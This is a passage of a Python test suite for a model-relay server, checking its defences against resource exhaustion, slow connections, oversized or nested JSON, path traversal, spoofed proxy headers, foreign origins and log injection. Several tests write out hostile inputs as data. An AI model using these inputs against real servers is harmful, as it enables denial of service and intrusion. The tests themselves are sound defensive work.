    data = b"x" * size if chunk is None else (b"8\r\nabcdefgh\r\n" * (size // 8)
                                              + b"0\r\n\r\n")

    class Trickle:
        buffer, at, abort = b"", 0, None

        def receive(self, deadline):
            self.buffer += data[self.at:self.at + 2]
            self.at += 2

    exchange = types.SimpleNamespace(
        bounds=types.SimpleNamespace(bytes=neuroengine_server.Room("memory", 10 * size)),
        address="203.0.113.1", trusted=False, connection=Trickle())
    with neuroengine_server.BytesUnderWay(exchange) as count:
        reader = neuroengine_server.BodyReader(exchange.connection, 0.0, count)
        tracemalloc.start()
        try:
            body = reader.take(size) if chunk is None else reader.take_chunked(2**40)
            most = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert len(body) == size and most < 4 * size
        assert size - 4096 <= exchange.bounds.bytes.taken <= 1.3 * size


def test_chunks_that_arrive_whole_count_as_memory():
    """One address took 284 MB so, of which 0.5 were counted."""
    class Whole:
        buffer = (b"8000\r\n" + b"x" * 0x8000 + b"\r\n") * 10 + b"0\r\n\r\n"

    counted = []
    neuroengine_server.BodyReader(Whole, math.inf, counted.append).take_chunked(2**40)
    assert sum(counted) == 10 * 0x8000


def test_a_body_of_thousands_of_tiny_chunks_is_refused_in_words():
    """Three such bodies of 16 MB made others wait for 140 ms."""
    class Flood:
        buffer = (b"40\r\n" + b"x" * 64 + b"\r\n") * 10000

    with pytest.raises(RelayError) as refused:
        neuroengine_server.BodyReader(Flood, math.inf, None).take_chunked(2**40)
    assert refused.value.name == "bad_http" and "larger ones" in refused.value.words


def test_what_came_of_a_chunked_body_is_not_copied_for_each_chunk():
    """4,000 tiny chunks in one segment held up all others for 74 ms."""
    class Flood:
        buffer = (b"200\r\n" + b"x" * 512 + b"\r\n") * 40000 + b"0\r\n\r\nGET"

    began = time.process_time()
    body = neuroengine_server.BodyReader(Flood, math.inf, None).take_chunked(2**40)
    assert len(body) == 40000 * 512 and Flood.buffer == b"GET"
    assert time.process_time() - began < 2


def test_an_answer_that_takes_longer_than_its_bound_is_an_error():
    with running_relay(limits=Limits(job_seconds=0.2, heartbeat_seconds=0.1)) as relay:
        hand = Hand(relay)
        waiting = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
        hand.next_job()
        status, answer, _ = waiting()
        assert (status, answer["error"]) == (504, "provider_timeout")
        hand.logout()


JUNK = [[]] * 30000          # 90 KB, and 2 MB once parsed


@pytest.mark.parametrize("how", ["poll", "running", "reader", "stream_options", "prompt"])
def test_a_request_that_waits_keeps_its_body_neither_in_memory_nor_in_others_way(how):
    """A poll of 70 KB kept everyone's bodies above 64 KB waiting for 25 seconds."""
    with running_relay() as relay:
        hand, key = Hand(relay), {}
        path, body = "/" + hand.name, {"message": "x", "stream": True, "key": "k" * 20, "at": 0}
        if how == "reader":
            key = sent(relay, path, body)
            key.recv(1)
            body = {"key": "k" * 20, "at": 0, "stream": True, "more": JUNK}
        elif how == "stream_options":
            path, body = "/v1/chat/completions", {
                "model": hand.name, "stream": True, "stream_options": {"x": JUNK},
                "messages": [{"role": "user", "content": "x"}]}
        elif how == "prompt":
            body["message"] = "x" * 100000
        else:
            path = "/provider/%s/poll" % hand.name
            body = {"session": hand.session, "running": [["x" * 40, n] for n in range(3000)]
                    if how == "running" else [], "more": JUNK if how == "poll" else 0}
        if how == "running":               # it hears first that it is to stop those
            sent(relay, path, body, Authorization="Bearer " + hand.key).recv(1)
        gc.collect()
        before = len(gc.get_objects())
        waiting = sent(relay, path, body, Authorization="Bearer " + hand.key)
        del body

        def waits():
            return relay.bounds.polls.taken == 1 if path.endswith("/poll") else any(
                len(job.readers) == 1 + (how == "reader")
                for job in list(relay.broker._jobs.values()))
        until(waits)
        while relay.bounds.large_bodies.taken() or len(gc.get_objects()) > before + 2500:
            assert waits()                 # it must not take until then
            gc.collect()
        assert waits()
        waiting.close()
        if how == "reader":
            key.close()


def test_a_chunked_body_is_bounded_by_what_it_says_and_not_only_by_what_comes(relay, hand):
    head = (b"POST /%s HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
            % hand.name.encode())
    said = raw(relay, head + b"%x\r\n" % (relay.limits.max_request_bytes + 1))
    assert said.startswith(b"HTTP/1.1 413")
    piece = b"%x\r\n%s\r\n" % (1 << 19, b"x" * (1 << 19))
    assert raw(relay, head + 3 * piece).startswith(b"HTTP/1.1 413")


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_a_handshake_that_is_not_ended_is_cut_even_if_bytes_drip(tmp_path):
    tls = neuroengine_server.Certificate(*neuroengine_server.self_signed(str(tmp_path)))
    with running_relay(tls=tls, limits=Limits(handshake_seconds=0.3)) as relay, \
            socket.create_connection(relay.server_address[:2], patient(SOON)) as sock:
        sock.settimeout(0.05)
        with contextlib.suppress(ConnectionError):
            for byte in b"\x16\x03\x01\x02\x00\x01\x00" + bytes(400):   # 512 would be complete
                sock.send(bytes([byte]))
                with contextlib.suppress(socket.timeout):
                    if not sock.recv(100):
                        break
            else:
                raise AssertionError("it was not cut within %d s" % (0.05 * 400))


@pytest.mark.parametrize("end", [b"\r\n\r\n", b""])
def test_a_head_of_more_than_16_kb_is_refused_with_and_without_an_end(relay, end):
    head = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: " + b"x" * 16384 + end
    assert raw(relay, head).startswith(b"HTTP/1.1 431")


def test_a_providers_error_of_several_lines_becomes_one():
    error = neuroengine_server.provider_error({"status": 400, "message": "[\n  {\r\n\t5}\n]"})
    assert error.words == "[ { 5} ]"


def test_text_of_others_becomes_one_line_of_ascii_in_logs_and_words(capfd):
    text = "a\nb\r\x1b[2J\x00\x7f\u202e\u2028 \ud800 level=\"x\""
    neuroengine_server.log("event", text=text)
    for line in (capfd.readouterr().err, neuroengine_server.printable(text) + "\n"):
        assert line.count("\n") == 1 and line.isascii() and line[:-1].isprintable()
    for words in (neuroengine_server.printable("x" * 9999), neuroengine_server.provider_error(
            {"message": "x\n" * 9999, "status": 429}).words):
        assert len(words) < 600 and words.isprintable()
    error = neuroengine_server.provider_error({"status": 429, "code": "x\n" * 9999})
    assert len(error.code) < 200 and error.code.isprintable()


def test_a_poll_that_nobody_reads_counts_as_memory():
    size = 15 << 20                        # more than the kernel takes off our hands
    with running_relay(limits=Limits(max_held_bytes=5 * size)) as relay:
        hand = Hand(relay)
        waiting = sent(relay, "/" + hand.name, {"message": "x" * size})
        until(lambda: relay.broker._jobs)
        silent = sent(relay, "/provider/%s/poll" % hand.name, {
            "session": hand.session, "running": []}, Authorization="Bearer " + hand.key)
        until(lambda: relay.bounds.bytes.taken > size // 2)
        silent.close()
        until(lambda: relay.bounds.bytes.taken == 0)
        waiting.close()
        hand.logout()


def test_an_offer_whose_job_was_dropped_meanwhile_is_still_json():
    job = neuroengine_server.Job(Service("Llm", ""), b"", "alice")
    said = []
    exchange = types.SimpleNamespace(
        response=lambda status, body: (b"", body), room=lambda size: contextlib.nullcontext(),
        send_parts=lambda head, body: said.append(json.loads(body)))
    neuroengine_server.send_work(exchange, [(job, 1, 0, None), (job, 2, 3, "text")], [])
    assert [offer["attempt"] for offer in said[0]["jobs"]] == [1, 2]


def test_a_peer_may_send_32_mb_before_it_reads_an_error():
    """Counted in reads, as it was, TLS gave it 8 MB: some clients saw no error but an end."""
    connection, taken = types.SimpleNamespace(), []

    def receive_some(deadline):
        taken.append(16000)
        return b"x" * 16000
    connection._receive_some = receive_some
    neuroengine_server.Connection.linger(connection)
    assert sum(taken) >= neuroengine_server.LINGER_BYTES


def test_without_descriptors_all_that_wait_are_turned_away_at_once(relay):
    class Full:
        """A listener that has no descriptor left, once."""

        def __init__(self, sock):
            self.sock, self.fileno, self.full = sock, sock.fileno, True

        def accept(self):
            if self.full:
                self.full = False
                raise OSError(errno.EMFILE, "too many open files")
            return self.sock.accept()

    with socket.create_server(("127.0.0.1", 0)) as listener:
        waiting = [socket.create_connection(listener.getsockname(), SOON) for _ in range(20)]
        with pytest.raises(OSError):
            relay._accept(Full(listener))
        for sock in waiting:
            assert sock.recv(1) == b""
            sock.close()


def test_a_proxys_clients_are_never_local():
    network = neuroengine_server.ipaddress.ip_network("127.0.0.1")
    for proxies in ((), [network]):
        with running_relay(proxies=proxies, limits=Limits(
                max_registrations_per_hour=1)) as relay:
            for header in ("127.0.0.1", "unknown", ""):
                statuses = [ask(relay, "/api/services", {"name": name_of()},
                                X_Forwarded_For=header)[0] for _ in range(2)]
                assert statuses[1] == 429
            assert ask(relay, "/metrics")[0] == (403 if proxies else 200)     # no header at all


def test_a_key_that_was_changed_while_a_body_was_on_its_way_is_refused(relay, hand):
    body = json.dumps({"workers": 1}).encode()
    late = socket.create_connection(relay.server_address, SOON)
    late.sendall(("POST /provider/%s/login HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
                  "Bearer %s\r\nContent-Length: %d\r\n\r\n" % (
                      hand.name, hand.key, len(body))).encode())
    late.sendall(body[:5])
    until(lambda: [each for each in relay.active if each.head
                   and each.head.path[:2] == ("provider", hand.name)])
    hand.key = manage(relay, hand, "PATCH", body={"new_key": True})[1]["key"]
    late.sendall(body[5:])
    assert late.recv(100).startswith(b"HTTP/1.1 401")
    late.close()


@pytest.mark.parametrize("body", [
    b'{"a":' + b"9" * 101 + b"}", b'["' + b'","' * 500000 + b'"]', b"[" + b"1," * 1000001,
    b'{"a":[' + b"[]," * 100001 + b"1]}", b'{"a":"' + b"\\n" * 2000001 + b'"}'])
def test_json_that_would_block_other_threads_is_refused(relay, body):
    with pytest.raises(RelayError) as refused:
        neuroengine_server.parse_json(body)
    assert refused.value.name == "invalid_json"


@pytest.mark.parametrize("origin, status", [
    ("http://localhost:3000", 200), ("http://127.0.0.1:5000", 200), ("null", 403),
    ("https://evil.example", 403), ("https://[evil", 403)])
def test_pages_from_elsewhere_may_not_use_a_relay_of_this_machine(relay, origin, status):
    assert ask(relay, "/v1/models", Origin=origin)[0] == status


def test_metrics_are_well_formed_and_count_events(relay, hand):
    waiting = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
    hand.reply(hand.next_job(), ["a"], done=True)
    assert waiting()[0] == 200
    _, text, _ = ask(relay, "/metrics")
    lines = text.decode().splitlines()
    for line in lines:
        assert re.match(r"# TYPE neuroengine_\w+ (counter|gauge|histogram)\Z|"
                        r"neuroengine_\w+(\{\w+=\"[^\"]+\"\})? [0-9.]+\Z", line), line
    values = dict(line.rsplit(" ", 1) for line in lines)
    assert int(values["neuroengine_jobs_total"]) >= 1
    assert int(values['neuroengine_requests_total{kind="native"}']) >= 1
    assert values["neuroengine_answer_seconds_count"] == \
        values['neuroengine_answer_seconds_bucket{le="+Inf"}'] != "0"
    assert ask(relay, "/metrics", X_Forwarded_For="6.6.6.6")[0] == 403


def test_the_relay_logs_neither_prompt_nor_reply_nor_key(relay, hand, capfd):
    secret = "canary" + uuid.uuid4().hex
    answer = in_thread(ask, relay, "/" + hand.name, {"message": secret, "key": secret})
    hand.reply(hand.next_job(), [secret + "reply"], done=True)
    answer()
    ask(relay, "/" + secret, {"message": secret}, Authorization="Bearer " + secret)
    ask(relay, "/api/services", {"name": name_of(), "comment": "x"})
    manage(relay, hand, "POST", "/keys", {"label": secret})
    hand.key = manage(relay, hand, "PATCH", body={"new_key": True})[1]["key"]
    out, err = capfd.readouterr()
    assert secret not in out + err and "ne_" not in out + err      # with which keys begin
    assert "registered" in err and "key_added" in err and "new_key" in err


def test_the_relay_logs_what_an_operator_changes_but_no_texts(relay, hand, capfd):
    manage(relay, hand, "PATCH", body={"private": True, "paused": False, "comment": "canary"})
    manage(relay, hand, "PATCH", body={"anonymous_per_day": 3, "surprise": "canary"})
    manage(relay, hand, "PATCH", body={"private": "wrong"})
    lines = [line for line in capfd.readouterr().err.splitlines() if " changed " in line]
    assert [line.split(" ", 4)[4] for line in lines] == [
        'private=true paused=false comment="changed"', 'anonymous_per_day=3'], lines


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_tls_a_silent_peer_delays_nobody_and_a_hang_up_is_noticed(tmp_path):
    cert, key = neuroengine_server.self_signed(str(tmp_path))
    with running_relay(tls=neuroengine_server.Certificate(cert, key),
                       limits=Limits(grace_seconds=0.2)) as relay:
        port = relay.server_address[1]
        with contextlib.ExitStack() as stack:
            for _ in range(20):
                stack.enter_context(socket.create_connection(("127.0.0.1", port)))
            transport = neuroengine.Transport("https://localhost:%d" % port, cert)
            service = transport.call("POST", "/api/services", {"name": "Tls"})
            provider = NeuroengineServer("https://localhost:%d" % port, verify_ssl=cert)
            closed = threading.Event()

            def answer(request):
                try:
                    while True:
                        yield "x"
                        time.sleep(0.05)
                finally:
                    closed.set()
            assert provider.login("Tls", service["key"]) == 0
            threading.Thread(target=provider.listen, args=(answer,), daemon=True).start()
            context = ssl.create_default_context(cafile=cert)
            sock = context.wrap_socket(socket.create_connection(("127.0.0.1", port)),
                                       server_hostname="localhost")
            sock.sendall(b'POST /Tls HTTP/1.1\r\nHost: localhost\r\nContent-Length: 15\r\n\r\n'
                         b'{"message":"x"}')
            until(lambda: relay.broker.find("Tls").numreq)
            time.sleep(0.4)
            sock.close()
            assert closed.wait(patient(2))
            provider.stop()


def certificate_of(port, cafile=None):
    """The serial number of the certificate that a relay shows."""
    context = ssl.create_default_context(cafile=cafile)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", port), SOON) as sock:
        with context.wrap_socket(sock) as secure:
            return secure.getpeercert(binary_form=True)


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_a_renewed_certificate_is_used_and_a_bad_pair_is_not(tmp_path, capfd, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "RELOAD_SECONDS", 60)    # its own looks
    files = neuroengine_server.self_signed(str(tmp_path))
    os.mkdir(str(tmp_path / "new"))
    renewed = neuroengine_server.self_signed(str(tmp_path / "new"))
    with running_relay(tls=neuroengine_server.Certificate(*files)) as relay:
        port = relay.server_address[1]
        context = ssl.create_default_context(cafile=files[0])
        kept = context.wrap_socket(socket.create_connection(("127.0.0.1", port)),
                                   server_hostname="localhost")
        old = certificate_of(port)
        for bad in (lambda: shutil.copy(renewed[1], files[1]),        # matches no more
                    lambda: open(files[0], "w").write("-----BEGIN CERT"),
                    lambda: os.remove(files[0])):
            bad()
            for _ in range(3):
                relay.reload()
            assert certificate_of(port) == old
        assert capfd.readouterr().err.count("certificate_not_renewed") == 3
        shutil.copy(renewed[0], files[0])
        relay.reload()
        assert certificate_of(port) not in (old, None)
        kept.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        assert kept.recv(100).startswith(b"HTTP/1.1 200")
        kept.close()


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_a_renewed_certificate_that_becomes_readable_later_is_used(tmp_path, monkeypatch, capfd):
    """certbot writes the key for root; then a hook lets the relay read it."""
    certificate = neuroengine_server.Certificate(*neuroengine_server.self_signed(str(tmp_path)))
    os.utime(str(tmp_path / "neuroengine-key.pem"), (1, 1))

    def unreadable(*_):
        raise PermissionError(13, "Permission denied")
    with monkeypatch.context() as patch:
        patch.setattr(neuroengine_server, "certificate_of", unreadable)
        assert [certificate.renew(), certificate.renew()] == [False, False]
    assert certificate.renew() and not certificate.renew()
    assert capfd.readouterr().err.count("certificate_not_renewed") == 1


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_where_tls_is_spoken_plain_http_is_for_certbot_and_sends_browsers_to_https(tmp_path):
    folder = tmp_path / ".well-known" / "acme-challenge"
    folder.mkdir(parents=True)
    (folder / "tok-1").write_bytes(b"tok-1.thumb")
    (tmp_path / "secret").write_bytes(b"secret")
    plain = socket.create_server(("127.0.0.1", 0))
    tls = neuroengine_server.Certificate(*neuroengine_server.self_signed(str(tmp_path)))
    with running_relay(tls=tls, webroot=str(tmp_path), plain=plain) as relay:
        for door in (argparse.Namespace(server_address=plain.getsockname()), relay):
            status, body, _ = ask(door, "/.well-known/acme-challenge/tok-1")
            assert (status, body) == (200, b"tok-1.thumb")
            for path in ("..%2f..%2fsecret", "%2e%2e", "tok-2", ""):
                assert ask(door, "/.well-known/acme-challenge/" + path)[0] in (301, 404)
            status, _, headers = ask(door, "/MYGPT?x=1", Host="relay.example.org:80")
            assert status == 403           # it is not called so
            status, _, headers = ask(door, "/MYGPT?x=1", Host="localhost:80")
            assert (status, headers["Location"]) == (
                301, "https://localhost:%d/MYGPT?x=1" % relay.server_port)
            assert ask(door, "/MYGPT", {"message": "x"})[1]["error"] == "forbidden"


def test_a_page_is_served_with_a_policy_of_hashes(relay):
    status, page, headers = ask(relay, "/")
    assert status == 200 and page == relay.page
    script, style = ("'sha256-%s'" % base64.b64encode(hashlib.sha256(re.search(
        b"<%s[^>]*>(.*?)</%s>" % (tag, tag), page, re.S)[1]).digest()).decode()
        for tag in (b"script", b"style"))
    assert headers["Content-Security-Policy"].split("; ") == [
        "default-src 'none'", "script-src " + script, "style-src " + style,
        "connect-src 'self'", "img-src data: blob:", "base-uri 'none'", "form-action 'none'",
        "frame-ancestors 'none'"]
    assert ask(relay, "/Some-Name")[0] == 200 and ask(relay, "/v1/nosuch")[0] == 404


@pytest.mark.parametrize("path, method, cache, shared", [
    ("/", "GET", "no-cache", False), ("/neuroengine.py", "GET", "no-cache", False),
    ("/api/models", "GET", "no-cache", False), ("/healthz", "GET", "no-store", False),
    ("/api/services", "OPTIONS", "no-store", False), ("/nosuch/x", "GET", "no-store", False),
    ("/Nosuch", "POST", "no-store", False), ("/api/services/x/keys", "GET", "no-store", False),
    ("/v1/models", "GET", "no-store", True), ("/v1/nosuch", "POST", "no-store", True)])
def test_every_answer_tells_browsers_what_they_may_do_with_it(
        relay, path, method, cache, shared):
    """shared: with the pages of other sites."""
    _, _, headers = ask(relay, path, {} if method == "POST" else None, method)
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer" and headers["Cache-Control"] == cache
    allowed = [name for name in headers if name.lower().startswith("access-control")]
    assert bool(allowed) is shared and headers["Access-Control-Allow-Origin"] == (
        "*" if shared else None)


def test_no_key_is_nobodys_key(relay):
    relay.broker.add(Service("Keyless", ""))
    try:
        assert ask(relay, "/api/services/Keyless", method="GET")[0] == 401
        assert ask(relay, "/api/services/Keyless", method="GET", Authorization="Bearer ")[0] == 401
    finally:
        relay.broker.remove(relay.broker.find("Keyless"))


def test_an_expired_key_reads_no_stream_of_a_private_service(relay, hand):
    guest = manage(relay, hand, "POST", "/keys", {})[1]
    manage(relay, hand, "PATCH", body={"private": True})
    key = {"Authorization": "Bearer " + guest["key"]}
    body = {"message": "x", "key": name_of("a-long-stream-key-"), "at": 0}
    first = in_thread(ask, relay, "/" + hand.name, body, **key)
    hand.reply(hand.next_job(), ["secret"], done=True)
    assert first()[1]["reply"] == "secret"
    relay.broker.find(hand.name).keys[digest(guest["key"])].expires = 1
    status, answer, _ = ask(relay, "/" + hand.name, {"key": body["key"], "at": 0}, **key)
    assert status == 401 and "expired" in answer["reply"]


def test_a_short_stream_key_is_for_its_own_caller_only():
    network = neuroengine_server.ipaddress.ip_network("127.0.0.1")
    with running_relay(proxies=[network]) as relay:
        hand = Hand(relay)
        for key, status in (("short", 404), ("a-stream-key-of-20-chars", 200)):
            body = {"message": "x", "key": key, "at": 0}
            first = in_thread(ask, relay, "/" + hand.name, body, X_Forwarded_For="203.0.113.1")
            hand.reply(hand.next_job(), ["mine"], done=True)
            assert first()[0] == 200
            assert ask(relay, "/" + hand.name, {"key": key, "at": 0},
                       X_Forwarded_For="203.0.113.2")[0] == status
        hand.logout()


def test_guesses_of_stream_keys_are_counted():
    with running_relay(limits=Limits(max_wrong_keys_per_minute=3)) as relay:
        hand = Hand(relay)
        statuses = [ask(relay, "/" + hand.name, {"key": name_of(), "at": 5})[0]
                    for _ in range(5)]
        assert statuses == [404] * 3 + [429] * 2
        hand.logout()


def test_the_key_of_a_repeated_registration_is_kept_nowhere_and_ends_with_a_new_one(relay):
    name = name_of()
    first = ask(relay, "/api/services", {"name": name}, Idempotency_Key="k" + name)
    again = ask(relay, "/api/services", {"name": name}, Idempotency_Key="k" + name)
    assert (first[0], again[0]) == (201, 201) and first[1]["key"] == again[1]["key"]
    key = {"Authorization": "Bearer " + first[1]["key"]}
    assert ask(relay, "/api/services/" + name, {"new_key": True}, "PATCH", **key)[0] == 200
    assert ask(relay, "/api/services", {"name": name}, Idempotency_Key="k" + name)[0] == 422


def test_page_client_and_directory_are_sent_compressed_and_once(relay, hand):
    for path, kind in (("/", "text/html"), ("/neuroengine.py", "text/x-python")):
        status, body, headers = ask(relay, path, Accept_Encoding="gzip, br")
        assert status == 200 and headers["Content-Encoding"] == "gzip"
        assert headers["Vary"] == "Accept-Encoding" and kind in headers["Content-Type"]
        plain = ask(relay, path)
        assert gzip.decompress(body) == plain[1]
        assert plain[2]["ETag"] != headers["ETag"]     # other bytes
        for tag in (plain[2]["ETag"], "W/" + plain[2]["ETag"], '"x",W/"y", ' + plain[2]["ETag"],
                    "*"):                  # nginx weakens the tag of what it compresses
            status, body, again = ask(relay, path, If_None_Match=tag)
            assert (status, body, again["ETag"]) == (304, b"", plain[2]["ETag"])
            assert again["Content-Length"] is again["Content-Type"] is None
        assert ask(relay, path, If_None_Match=headers["ETag"],
                   Accept_Encoding="gzip")[0] == 304
        assert ask(relay, path, If_None_Match='"x", "*"')[0] == 200
    assert ask(relay, "/api/models")[2]["ETag"]


def test_paths_that_clients_probe_are_not_the_page(relay):
    status, answer, _ = ask(relay, "/v1/props", method="GET")
    assert status == 404 and answer["error"]["code"] == "unknown_url"
    for path in ("/props", "/slots"):
        assert ask(relay, path, method="GET")[0] == 404


def test_idle_connections_need_no_threads_and_close_together(monkeypatch):
    monkeypatch.setattr(neuroengine_server, "KEPT_SECONDS", 0.2)
    with running_relay(limits=Limits(max_connections=600)) as relay:
        threads = threading.active_count()
        socks = [socket.create_connection(relay.server_address, SOON) for _ in range(300)]
        until(lambda: len(relay.lobby._parked) == 300)
        until(lambda: threading.active_count() <= threads + 3)
        for sock in socks[:150]:            # half of them ask, as if they had never waited
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        for sock in socks[:150]:
            assert sock.recv(100).startswith(b"HTTP/1.1 200")
        for sock in socks:
            sock.close()
        until(lambda: relay.bounds.connections.taken == 0)


@pytest.mark.parametrize("parts", [(b"\r", b"\n"), (b"G", b"E", b"T")])
def test_a_head_has_one_deadline_from_its_first_byte(parts):
    with running_relay(limits=Limits(head_seconds=0.5)) as relay:
        for kept in (False, True):
            sock = socket.create_connection(relay.server_address, SOON)
            if kept:
                sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
                sock.recv(1000)
            began = time.monotonic()
            with contextlib.suppress(OSError):
                for part in parts:
                    sock.sendall(part)
                    time.sleep(0.3)
                while sock.recv(1000):
                    pass
            assert time.monotonic() - began < patient(4)
            sock.close()


##############################################################################
# The OpenAI face
##############################################################################


def chat(relay, name, stream=False, path="/v1/chat/completions", **more):
    body = {"model": name, "messages": [{"role": "user", "content": "hi"}]}
    body.update(more, stream=stream)
    return ask(relay, path, body, Authorization="Bearer dummy")


def events_of(data):
    """The data of each event of a text/event-stream, and its comments."""
    lines = data.decode().split("\n")
    assert not [line for line in lines if line and line[:6] != "data: " and line[0] != ":"]
    values = [line[6:] for line in lines if line[:6] == "data: "]
    return [json.loads(value) for value in values if value != "[DONE]"], values[-1]


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/chat/completions",
                                  "//v1//chat/completions/", "/{name}/v1/chat/completions"])
def test_a_chat_completion_has_the_form_clients_expect(relay, hand, path):
    answer = in_thread(chat, relay, hand.name, path=path.format(name=hand.name))
    job = hand.next_job()
    assert job["request"] == {"api": "chat",
                              "messages": [{"role": "user", "content": "hi"}]}
    hand.reply(job, ["Hel", "lo"], done=True)
    status, body, headers = answer()
    assert status == 200 and headers["x-request-id"] and headers["x-neuroengine-queue-ms"]
    assert body["object"] == "chat.completion" and body["model"] == hand.name
    assert re.match(r"chatcmpl-[0-9a-f]{24}\Z", body["id"])
    assert body["choices"] == [{
        "index": 0, "logprobs": None, "finish_reason": "stop",
        "message": {"role": "assistant", "content": "Hello"}}]
    assert body["usage"]["completion_tokens"] == 2


def test_a_streamed_chat_has_role_text_end_and_usage_if_asked(relay, hand):
    answer = in_thread(chat, relay, hand.name, stream=True,
                       stream_options={"include_usage": True})
    hand.reply(hand.next_job(), ["Hel", "lo", {"finish_reason": "length", "usage": {
        "prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}}], done=True)
    status, data, headers = answer()
    assert status == 200 and headers["Content-Type"] == "text/event-stream"
    events, last = events_of(data)
    assert last == "[DONE]" and len({event["id"] for event in events}) == 1
    assert {event["object"] for event in events} == {"chat.completion.chunk"}
    assert events[0]["choices"][0]["delta"] == {"role": "assistant", "content": ""}
    deltas = [e["choices"][0]["delta"].get("content", "") for e in events if e["choices"]]
    assert "".join(deltas) == "Hello"
    assert events[-2]["choices"][0] == {"index": 0, "delta": {}, "finish_reason": "length"}
    assert events[-1]["choices"] == [] and events[-1]["usage"]["total_tokens"] == 3


def test_items_without_text_add_nothing_to_a_stream(relay, hand):
    answer = in_thread(chat, relay, hand.name, stream=True)
    job = hand.next_job()
    hand.reply(job, ["Hello"])
    hand.reply(job, [{"finish_reason": "stop", "usage": {"total_tokens": 3}}], at=1)
    hand.reply(job, at=2, done=True)
    lines = answer()[1].decode().split("\n\n")
    assert lines.pop() == "" and lines.pop() == "data: [DONE]"
    assert [json.loads(line[6:])["choices"][0]["finish_reason"] for line in lines] == [
        None, None, "stop"]


def test_tool_calls_and_reasoning_pass_untouched(relay, hand):
    items = [{"reasoning": "hm"},
             {"tool_calls": [{"index": 0, "id": "c1", "type": "function",
                              "function": {"name": "f", "arguments": ""}}]},
             {"tool_calls": [{"index": 0, "function": {"arguments": '{"a":'}}]},
             {"tool_calls": [{"index": 0, "function": {"arguments": "1}"}}]},
             {"finish_reason": "tool_calls"}]
    answer = in_thread(chat, relay, hand.name, tools=[{"type": "function"}])
    job = hand.next_job()
    assert job["request"]["tools"] == [{"type": "function"}]
    hand.reply(job, items, done=True)
    choice = answer()[1]["choices"][0]
    assert choice["finish_reason"] == "tool_calls"
    assert choice["message"] == {
        "role": "assistant", "content": None, "reasoning_content": "hm",
        "tool_calls": [{"id": "c1", "type": "function",
                        "function": {"name": "f", "arguments": '{"a":1}'}}]}
    answer = in_thread(chat, relay, hand.name, stream=True)
    hand.reply(hand.next_job(), items, done=True)
    deltas = [event["choices"][0]["delta"] for event in events_of(answer()[1])[0]]
    assert deltas[:2] == [{"role": "assistant", "content": None}, {"reasoning_content": "hm"}]
    assert [d["tool_calls"] for d in deltas if "tool_calls" in d] == [
        item["tool_calls"] for item in items if "tool_calls" in item]


def whole_message(*items):
    """The message of a whole chat answer of these items, and its job."""
    job = Job(Service("Llm", ""), b"{}")
    job.items = [neuroengine_server.encoded_item(item) for item in items]
    encoder = neuroengine_server.TextWhole("chat", "Llm")
    return json.loads(encoder.whole(job))["choices"][0]["message"]


def test_other_fields_of_a_whole_answer_are_joined_or_replaced():
    assert whole_message(
        {"delta": {"a": "x", "b": [1], "c": [], "d": {"n": 1}, "e": [2], "\u2603": "\ud800"}},
        {"delta": {"a": "y", "b": [], "c": [{"z": "\u2603"}], "d": {"n": 2}, "e": "f"}},
        {"delta": {"a": "", "b": [2, 3], "d": None, "role": "other"}}) == {
            "role": "other", "content": "", "a": "xy", "b": [1, 2, 3], "c": [{"z": "\u2603"}],
            "d": None, "e": "f", "\u2603": "\ud800"}


@pytest.mark.parametrize("item", [
    {"tool_calls": [{}] * 3000},
    {"tool_calls": [{"index": n} for n in range(1200)]},
    {"delta": {"n%d" % n: n for n in range(3000)}},
], ids=["calls", "counted calls", "fields"])
def test_an_answer_with_too_many_calls_to_merge_is_an_error(relay, hand, item):
    """8 MB of them took 2.4 GB, and became a response of 189 MB."""
    answer = in_thread(chat, relay, hand.name)
    hand.reply(hand.next_job(), [item], done=True)
    status, body, _ = answer()
    assert status == 502 and "more than 1000" in body["error"]["message"]
    answer = in_thread(chat, relay, hand.name, stream=True)
    hand.reply(hand.next_job(), [item], done=True)
    status, data, _ = answer()
    assert status == 200 and events_of(data)[1] == "[DONE]"


@pytest.mark.parametrize("item", [
    {"delta": {"x": [{"a": 1}] * 2000}}, {"delta": {"x": [[]] * 5000}},
    {"delta": {"x": "ab"}, "reasoning": "c"},
    {"tool_calls": [{"index": 0, "function": {"name": "n", "arguments": "xy"}}] * 300},
], ids=["objects", "lists", "texts", "calls"])
def test_merging_a_whole_answer_takes_little_more_than_its_bytes(item):
    items = [item] * (2000000 // (64 + len(json.dumps(item, separators=(",", ":")))))
    size = neuroengine_server.size_of(list(map(neuroengine_server.encoded_item, items)))
    message = neuroengine_server.Message()
    tracemalloc.start()
    try:
        for item in items:
            message.add(json.loads(json.dumps(item)))
        body = message.whole("")
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert most < 6 * size and len(body) < 1.5 * size      # not 30 or 300 times


def test_what_a_provider_calls_raw_means_nothing(relay, hand):
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
    job = hand.next_job()
    hand.call("reply", session=hand.session, replies=[{
        "job": job["job"], "attempt": job["attempt"], "at": 0, "items": ["a"], "done": True,
        "raw": True}])
    assert answer()[1]["reply"] == "a"


def test_an_idempotency_key_is_for_one_api(relay, hand):
    body = {"model": hand.name, "prompt": "x", "messages": [{"role": "user", "content": "x"}]}
